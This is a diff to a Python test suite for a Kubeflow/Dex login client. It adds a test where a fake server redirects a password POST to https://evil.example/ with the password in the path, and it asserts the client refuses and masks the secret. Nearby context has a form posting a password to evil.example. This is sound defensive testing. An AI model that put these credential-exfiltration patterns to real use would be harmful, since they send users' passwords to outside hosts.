@@ -11,6 +11,7 @@ from concurrent.futures import ThreadPoolExecutor
 from itertools import combinations
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from hypothesis import HealthCheck, example, given, settings
@@ -382,6 +383,19 @@ def test_a_password_goes_nowhere_but_to_kubeflow_and_its_dex(
             b'<form method=post action="https://evil.example/"><input type=password name=p></form>',
         )
         assert "leads to https://evil.example/" in refused(fake, **login())
+
+
+def test_a_password_that_comes_back_in_an_address(fake: FakeKubeflow, dex: FakeDex) -> None:
+    form = b'<form method=post action="/taken"><input type=password name=p></form>'
+
+    def gate(method: str, path: str, headers: dict[str, str], body: bytes) -> Any:
+        if method == "POST":
+            return 302, {"Location": f"https://evil.example/{quote(dex.password)}"}, b""
+        return 200, HTML, form
+
+    fake.gate = gate
+    said = refused(fake, **login())
+    assert "leads to https://evil.example/***" in said
 
 
 @given(st.text(min_size=1))
